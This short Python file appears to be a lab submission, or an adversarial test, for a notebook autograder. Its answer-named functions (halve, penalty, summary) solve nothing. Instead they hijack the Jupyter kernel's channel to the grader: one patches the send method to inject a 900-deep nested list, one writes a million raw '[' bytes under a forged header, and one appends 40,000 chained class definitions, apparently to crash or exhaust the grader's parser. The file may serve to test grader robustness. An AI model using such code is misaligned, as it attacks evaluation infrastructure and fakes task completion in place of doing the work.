"""Sends values in values in values, and classes derived from classes, thousands deep."""

LAB = "02_objects"
SCORE = 0

# %% halve
import json


def forge(change):
    line = get_ipython().kernel.answers.peer.line
    send = line.send

    def sending(text, contents):
        message = json.loads(text)
        change(message)
        send(json.dumps(message), contents)

    line.send = sending

def raw(*texts):
    connection = get_ipython().kernel.answers.peer.line.connection
    for text in texts:
        connection.sendall(text)


def deep(message):
    value = 0
    for _ in range(900):
        value = ["t", value]
    message["v"] = [value]


def halve(model):
    forge(deep)
    return model

# %% penalty
import struct


def penalty(x):
    text = b"[" * 1_000_000
    raw(struct.pack(">IQ", len(text), 0) + text)
    return x

# %% summary
def chain(message):
    first = 100_001
    for number in range(first, first + 40_000, 2):
        bases = [[number + 2]]
        message["n"].append(["C", number, "Kind", bases, [], [], [], []])
    message["v"] = [[first]]


def summary(model):
    forge(chain)
    return {}
